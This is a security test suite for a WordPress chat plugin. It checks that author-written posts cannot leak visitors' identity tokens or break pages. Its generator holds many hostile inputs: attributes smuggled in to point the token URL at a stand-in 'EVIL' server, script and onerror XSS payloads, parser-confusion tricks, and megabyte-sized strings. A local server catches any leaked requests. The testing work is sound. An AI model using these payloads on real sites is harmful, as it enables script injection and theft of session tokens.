import { writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { everyNth } from '../../../scripts/test-tier.js'
import { launchBrowser } from '../e2e/browser.js'
import { EVENT } from './kinescope.js'
import { startTokenServer, type TokenServer } from './token-server.js'
import { startDatabase, type Database } from './wordpress-database.js'
import { People, type Person } from './wordpress-people.js'
import { releases, startWordPress, whyNoWordPress, type WordPress } from './wordpress-site.js'

const missing = whyNoWordPress()
if (missing) console.log(`Skipped: attacks on the WordPress plugin. ${missing}`)

const IDENTITY_TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+/
const TAG = `<kinescope-chat event-id="${EVENT}">`
const BLOCK = (attributes: object) =>
  `<!-- wp:stream-chat-for-kinescope/chat ${JSON.stringify(attributes)} /-->`
const entities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('')

/** Hostile texts of an author. `EVIL` is the attacker's server. */
function attacks(): [name: string, content: string][] {
  const names = [
    'token-url',
    'chat-origin',
    'identity',
    'token',
    'signin-url',
    'credentials',
    'debug',
    'onclick',
    'is',
    'slot',
  ]
  const spellings = (name: string) => [
    `${name}="EVIL"`,
    `${name.toUpperCase()}='EVIL'`,
    `${name[0]!.toUpperCase()}${name.slice(1)}=EVIL`,
    `${name}\n=\t"EVIL"`,
    `${name}="${entities('EVIL')}"`,
    `/${name}="EVIL"/`,
    `"${name}="EVIL"`,
    `x='>' ${name}="EVIL"`,
    `${name}="EVIL" ${name}=""`,
    `${name}\0="EVIL"`,
    `data-${name}="EVIL"`,
    `DATA-${name.toUpperCase()}="EVIL"`,
  ]
  const many = Array.from({ length: 1000 }, (_, i) => `data-a${i}="${i}"`).join(' ')
  const attributes: [string, string][] = names.flatMap((name) =>
    spellings(name).flatMap((spelling): [string, string][] => [
      [
        `tag ${spelling}`,
        `<kinescope-chat event-id="${EVENT}" ${spelling}></kinescope-chat><kinescope-chat ${spelling} event-id="${EVENT}"></kinescope-chat>`,
      ],
      [
        `div ${spelling}`,
        `<div data-kinescope-chat="${EVENT}" ${spelling}></div><div ${spelling} data-kinescope-chat="${EVENT}"></div>`,
      ],
    ]),
  )
  // forty in one post: a page for each would take an hour
  const grouped = Array.from({ length: Math.ceil(attributes.length / 40) }, (_, i): [string, string] => {
    const part = attributes.slice(i * 40, i * 40 + 40)
    return [`${part[0]![0]} and its like`, part.map(([, content]) => content).join('\n\n')]
  })
  const contexts: [string, string][] = [
    ['in a title', `<p title="${TAG}">a</p><p title='[kinescope_chat ${EVENT}]'>b</p>`],
    [
      'in an address',
      `<img src='EVIL?[kinescope_chat ${EVENT}]'><a href='EVIL?[kinescope_chat ${EVENT}]'>x</a>`,
    ],
    ['unquoted', `<img src=EVIL?[kinescope_chat ${EVENT}] alt=x>`],
    ['an address left open', `<img src='EVIL?\n\n[kinescope_chat ${EVENT}]\n\n`],
    ['a block in an address', `<img src='EVIL?${BLOCK({ event: EVENT })}'>`],
    ['a line in an address', `<img src='EVIL?\nhttps://kinescope.io/chat/${EVENT}\n'>`],
    ['in a comment', `<!-- ${TAG} --><!-- [kinescope_chat ${EVENT}] --><!-- a -- > ${TAG} -->`],
    [
      'in a text field',
      `<form action=EVIL><textarea name=a>[kinescope_chat ${EVENT}]</textarea></form><textarea>${TAG}</textarea>`,
    ],
    ['in a script', `<script>var a='${TAG}'</script><script>[kinescope_chat ${EVENT}]</script>`],
    ['in a style', `<style>${TAG}</style><style>a{background:url('EVIL?[kinescope_chat ${EVENT}]')}</style>`],
    ['in a template', `<template>${TAG}</template><noscript>${TAG}<img src='EVIL?</noscript>${TAG}'>`],
    ['in a drawing', `<svg><style>${TAG}</style></svg><svg><![CDATA[>${TAG}<img src='EVIL?]]>${TAG}'></svg>`],
    ['in MathML', `<math><mtext><table><mglyph><style><img src='EVIL?</style>${TAG}'>`],
    [
      'in another',
      `<div data-kinescope-chat="${EVENT}"><kinescope-chat event-id="${EVENT}" token-url="EVIL"></kinescope-chat></div>`,
    ],
    ['half a tag', `<kinescope-chat event-id="${EVENT}" token-url="EVIL"`],
    ['half a value', `<kinescope-chat event-id="${EVENT}" label="`],
    ['closing only', `</kinescope-chat token-url="EVIL"></kinescope-chat>`],
    [
      'a foreign chat',
      `<a href="EVIL/chat/${EVENT}#kinescope-chat">x</a><a href="https://kinescope.io@127.0.0.1/chat/${EVENT}#kinescope-chat">x</a>`,
    ],
    [
      'a style',
      `<kinescope-chat event-id="${EVENT}" style="background:url(EVIL?a);--kinescope-chat-height:1px;position:fixed"></kinescope-chat>`,
    ],
    [
      'hostile settings',
      BLOCK({
        event: [EVENT],
        label: { a: 1 },
        height: '1px;background:url(EVIL)',
        help: 'EVIL',
        'token-url': 'EVIL',
        identity: 'x',
        className: '"><img src=EVIL>',
      }),
    ],
    ['a hostile name', BLOCK({ event: `${EVENT}" token-url="EVIL`, label: '--><script>alert(1)</script>' })],
    ['a hostile anchor', BLOCK({ event: EVENT, anchor: '" token-url="EVIL', align: '"><script>' })],
    [
      'a shortcode with settings',
      `[kinescope_chat event="${EVENT}" token-url="EVIL" data-token-url="EVIL" identity="x" chat-origin="EVIL" style="background:url(EVIL)"]`,
    ],
    [
      'a shortcode in a shortcode',
      `[kinescope_chat event="[kinescope_chat ${EVENT}]" label="[kinescope_chat ${EVENT}]"]`,
    ],
    [
      'shortcodes with markup',
      `[kinescope_chat event='x"><img src=EVIL onerror=alert(1)>' label='" onmouseover="alert(1)']`,
    ],
    ['a caption', `[caption width="300" caption="${TAG}"]<img src="EVIL" />[/caption]`],
    [
      '1,000 attributes',
      `<div data-kinescope-chat="${EVENT}" ${many} data-token-url="EVIL"></div><kinescope-chat event-id="${EVENT}" ${many} token-url="EVIL"></kinescope-chat>`,
    ],
    ['a thousand chats', TAG.repeat(1000)],
    ['a thousand shortcodes', `[kinescope_chat ${EVENT}]\n\n`.repeat(1000)],
    ['deeply nested', '<div>'.repeat(3000) + TAG + '</div>'.repeat(3000)],
  ]
  const megabytes = everyNth(4, [
    '<',
    `${TAG}`,
    '<!--',
    '<svg>',
    '"',
    'a ',
    "<a href='",
    '[kinescope_chat ',
  ]).map((piece): [string, string] => [
    `a megabyte of ${piece}`,
    `${TAG}</kinescope-chat><div data-kinescope-chat="${EVENT}" ${piece.repeat(Math.floor(1e6 / piece.length))}`,
  ])
  return [...grouped, ...contexts, ...megabytes]
}

describe.skipIf(missing)('an attacker who may write', () => {
  let database: Database
  let browser: Browser
  beforeAll(async () => {
    ;[database, browser] = await Promise.all([startDatabase(), launchBrowser()])
  })
  afterAll(async () => {
    await browser?.close()
    await database?.close()
  })

  describe.each(missing ? [] : releases())('in WordPress %s', (_release, folder) => {
    let wordpress: WordPress
    let tokenServer: TokenServer
    let people: People
    let evil: Server
    let evilUrl: string
    /** The requests to the attacker's server. */
    const requests: string[] = []

    beforeAll(async () => {
      evil = createServer((request, response) => {
        const chunks: Buffer[] = []
        request.on('data', (chunk: Buffer) => chunks.push(chunk))
        request.on('end', () => {
          requests.push(
            [
              request.method,
              request.url,
              JSON.stringify(request.headers),
              Buffer.concat(chunks).toString(),
            ].join('\n'),
          )
          const headers = {
            'access-control-allow-origin': request.headers.origin ?? '*',
            'access-control-allow-credentials': 'true',
            'access-control-allow-headers': 'authorization, content-type',
          }
          response.writeHead(200, headers).end('{}')
        })
      })
      await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
      evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`
      tokenServer = await startTokenServer({ CHAT_ALLOWED_ORIGINS: 'http://localhost:1' })
      wordpress = await startWordPress({ folder, database, chatOrigin: tokenServer.chatOrigin })
      await wordpress.php(
        `update_option('stream_chat_for_kinescope', ['server' => $argv[1], 'hours' => 6]); update_option('stream_chat_for_kinescope_secret', $argv[2]);`,
        tokenServer.server.url,
        tokenServer.secret,
      )
      people = new People(wordpress, browser)
      await people.page('boss')
    })
    afterAll(async () => {
      await wordpress?.close()
      await tokenServer?.close()
      evil?.closeAllConnections()
      evil?.close()
    })

    /** Publishes texts as a user, with or without WordPress's filters. */
    async function publish(
      contents: string[],
      filtered: boolean,
      status = 'publish',
      author = 'author',
    ): Promise<number[]> {
      const file = join(wordpress.folder, 'posts.json')
      await writeFile(file, JSON.stringify(contents.map((content) => content.replaceAll('EVIL', evilUrl))))
      return JSON.parse(
        await wordpress.php(
          `wp_set_current_user(get_user_by('login', $argv[2])->ID); ${filtered ? 'kses_init();' : 'kses_remove_filters();'}
          echo json_encode(array_map(function ($text) use ($argv) { return wp_insert_post(['post_title' => 'Attack', 'post_status' => $argv[3], 'post_content' => wp_slash($text)]); }, json_decode(file_get_contents($argv[1]), true)));`,
          file,
          author,
          status,
        ),
      ) as number[]
    }

    /** Counts the identity tokens in our tags, and lists the nodes with one elsewhere, by a browser's parser. */
    const places = async (html: string) => {
      const page = await people.page('signed-out')
      return page.evaluate(
        ({ html, own }) => {
          const identityToken = /eyJ[\w-]+\.[\w-]+\.[\w-]+/
          const found = { ours: 0, elsewhere: [] as string[] }
          const look = (root: Node) => {
            for (const node of [...root.childNodes]) {
              if (node instanceof Element) {
                for (const { name, value } of [...node.attributes])
                  if (identityToken.test(name + value)) {
                    const ours =
                      node.localName === 'kinescope-chat' &&
                      name === 'identity' &&
                      node.getAttribute('token-url') === own
                    if (ours && !node.hasAttribute('chat-origin') && !node.hasAttribute('credentials'))
                      found.ours++
                    else found.elsewhere.push(node.outerHTML.slice(0, 300))
                  }
              } else if (identityToken.test(node.nodeValue ?? ''))
                found.elsewhere.push(String(node.nodeValue).slice(0, 300))
              look(node)
              if (node instanceof HTMLTemplateElement) look(node.content)
            }
          }
          look(new DOMParser().parseFromString(html, 'text/html'))
          return found
        },
        { html, own: `${tokenServer.server.url}/token` },
      )
    }

    it('gives an honest text an identity token (control)', async () => {
      const [id] = await publish([`${TAG}</kinescope-chat>`], true)
      const { html } = await people.read('boss', `/?p=${id}`)
      expect(await places(html)).toEqual({ ours: 1, elsewhere: [] })
    })

    it.each([
      ['WordPress filters the texts', true],
      ['nothing filters the texts', false],
    ])('writes no identity token elsewhere and breaks no page: %s', async (_, filtered) => {
      // an unfiltered megabyte breaks a page of WordPress without the plugin too
      const all = everyNth(2, attacks()).filter(([name]) => filtered || !name.startsWith('a megabyte'))
      const ids = await publish(
        all.map(([, content]) => content),
        filtered,
      )
      let ours = 0
      for (const [index, id] of ids.entries()) {
        const [name] = all[index]!
        const { status, html } = await people.read('boss', `/?p=${id}`)
        expect(status, name).toBe(200)
        expect(html.trimEnd().endsWith('</html>'), name).toBe(true)
        expect(html, name).not.toMatch(/PLUGIN FAULT|Fatal error|critical error/)
        const found = await places(html)
        expect(found.elsewhere, name).toEqual([])
        ours += found.ours
      }
      expect(ours).toBeGreaterThan(25)
    })

    it('receives no identity token from the browser of a signed-in visitor', async () => {
      const spellings = everyNth(2, attacks().slice(0, 6))
      const ids = await publish(
        spellings.map(([, content]) => content),
        false,
      )
      const page = await people.page('boss')
      for (const id of ids) {
        await page.goto(`${wordpress.url}/?p=${id}`)
        await page.waitForFunction(() => customElements.get('kinescope-chat'))
        await page.waitForLoadState('networkidle')
      }
      for (const request of requests) expect(request).not.toMatch(IDENTITY_TOKEN)
    })

    it('shows a contributor’s draft to an editor as a preview', async () => {
      const contents = [`[kinescope_chat ${EVENT}]`, `${TAG}</kinescope-chat>`, BLOCK({ event: EVENT })]
      for (const status of ['draft', 'pending'])
        for (const id of await publish(contents, true, status, 'contributor')) {
          const { html } = await people.read('editor', `/?p=${id}&preview=true`)
          expect(html).toMatch(/<kinescope-chat [^>]*preview/)
          expect(html).not.toMatch(IDENTITY_TOKEN)
        }
      // an unpublished change, in the preview of a public post
      const [id] = await publish(['<p>Public</p>'], true)
      const page = await people.page('boss')
      await page.goto(`${wordpress.url}/wp-admin/post.php?post=${id}&action=edit`)
      const link = await page.evaluate(
        async ({ id, content }) => {
          const nonce = await (await fetch('/wp-admin/admin-ajax.php?action=rest-nonce')).text()
          const reply = await fetch(`/?rest_route=/wp/v2/posts/${id}/autosaves`, {
            method: 'POST',
            headers: { 'Content-Type': 'application/json', 'X-WP-Nonce': nonce },
            body: JSON.stringify({ content }),
          })
          return ((await reply.json()) as { preview_link: string }).preview_link
        },
        { id: id!, content: `${TAG}</kinescope-chat>` },
      )
      const { html } = await people.read('boss', link)
      expect(html).toMatch(/<kinescope-chat [^>]*preview/)
      expect(html).not.toMatch(IDENTITY_TOKEN)
    })

    it('makes an identity token for a page only: not for feeds, REST, excerpts, heads, embeds, mail, cron', async () => {
      const [id] = await publish(
        [
          `<p>Words</p>\n\n[kinescope_chat ${EVENT}]\n\n${BLOCK({ event: EVENT })}\n\n${TAG}</kinescope-chat>`,
        ],
        true,
      )
      await writeFile(
        join(wordpress.folder, 'wp-content/mu-plugins/readers.php'),
        `<?php
        add_action('wp_head', function () { echo '<meta name="description" content="' . esc_attr(apply_filters('the_content', get_post()->post_content ?? '')) . '">'; });
        add_action('wp_footer', function () { if (isset($_GET['excerpt'])) { setup_postdata(get_post()); the_excerpt(); echo apply_filters('get_the_excerpt', '', get_post()); } });
        if (isset($_GET['amp'])) { function amp_is_request() { return true; } }
        add_action('init', function () { if (isset($_GET['early'])) { wp_set_current_user(1); echo apply_filters('the_content', get_post((int) $_GET['early'])->post_content); } });
        add_action('shutdown', function () { if (isset($_GET['late'])) { echo apply_filters('the_content', get_post((int) $_GET['late'])->post_content); } });`,
      )
      const nonce = await (
        await people.page('boss')
      ).request.get(`${wordpress.url}/wp-admin/admin-ajax.php?action=rest-nonce`)
      for (const path of [
        '/?feed=rss2',
        '/?feed=atom',
        `/?rest_route=/wp/v2/posts/${id}&_wpnonce=${await nonce.text()}`,
        `/?rest_route=/wp/v2/search&search=Words&_wpnonce=${await nonce.text()}`,
        `/?p=${id}&embed=true`,
        `/?p=${id}&amp=1`,
        `/?rest_route=/oembed/1.0/embed&url=${encodeURIComponent(`${wordpress.url}/?p=${id}`)}`,
        `/wp-admin/admin-ajax.php?early=${id}`,
        `/wp-login.php?early=${id}`,
        `/?feed=rss2&late=${id}`,
        '/?sitemap=index',
        '/?sitemap=posts&sitemap-subtype=post&paged=1',
      ]) {
        const { html } = await people.read('boss', path)
        expect(html, path).not.toMatch(IDENTITY_TOKEN)
      }
      // the page has it in the chats only, not in what other plugins make of the text
      const { html } = await people.read('boss', `/?p=${id}&excerpt=1&late=${id}`)
      expect(await places(html)).toEqual({ ours: 3, elsewhere: [] })
      expect(/<meta name="description"[^>]*>/.exec(html)![0]).not.toMatch(IDENTITY_TOKEN)
      for (const how of [
        '',
        `define('DOING_CRON', true);`,
        `add_filter('wp_mail', function ($mail) { return $mail; });`,
      ]) {
        const text = await wordpress.php(
          `${how} wp_set_current_user(1); echo apply_filters('the_content', get_post((int) $argv[1])->post_content);`,
          String(id),
        )
        expect(text).toContain('kinescope-chat')
        expect(text).not.toMatch(IDENTITY_TOKEN)
      }
    })

    it('gets no chat by a comment, even if a theme runs shortcodes and embeds in comments', async () => {
      const [id] = await publish([`[kinescope_chat ${EVENT}]`], true)
      await writeFile(
        join(wordpress.folder, 'wp-content/mu-plugins/comments.php'),
        `<?php add_filter('comment_text', 'do_shortcode'); add_filter('comment_text', [$GLOBALS['wp_embed'], 'autoembed'], 8); add_filter('comment_text', 'do_blocks', 9);`,
      )
      const comments = [
        `<a href="https://kinescope.io/chat/${EVENT}#kinescope-chat">Look</a>`,
        `[kinescope_chat ${EVENT}]`,
        `\nhttps://kinescope.io/chat/${EVENT}\n`,
        `${TAG}</kinescope-chat>`,
        `<div data-kinescope-chat="${EVENT}"></div>`,
        BLOCK({ event: EVENT }),
      ]
      const file = join(wordpress.folder, 'comments.json')
      await writeFile(file, JSON.stringify(comments))
      await wordpress.php(
        `foreach (json_decode(file_get_contents($argv[1]), true) as $text) wp_insert_comment(wp_filter_comment(['comment_post_ID' => (int) $argv[2], 'comment_approved' => 1, 'comment_author' => 'x', 'comment_author_email' => '', 'comment_author_url' => '', 'comment_author_IP' => '', 'comment_agent' => '', 'user_id' => 0, 'comment_content' => $text]));`,
        file,
        String(id),
      )
      for (const person of ['boss', 'signed-out'] as Person[]) {
        const page = await people.page(person)
        await page.goto(`${wordpress.url}/?p=${id}`)
        await page.waitForFunction(() => customElements.get('kinescope-chat'))
        expect(await page.locator('kinescope-chat').count()).toBe(1)
        expect(await page.locator('#comments kinescope-chat').count()).toBe(0)
        expect(await page.locator('#comments a').count()).toBeGreaterThan(0)
      }
    })
  })
})
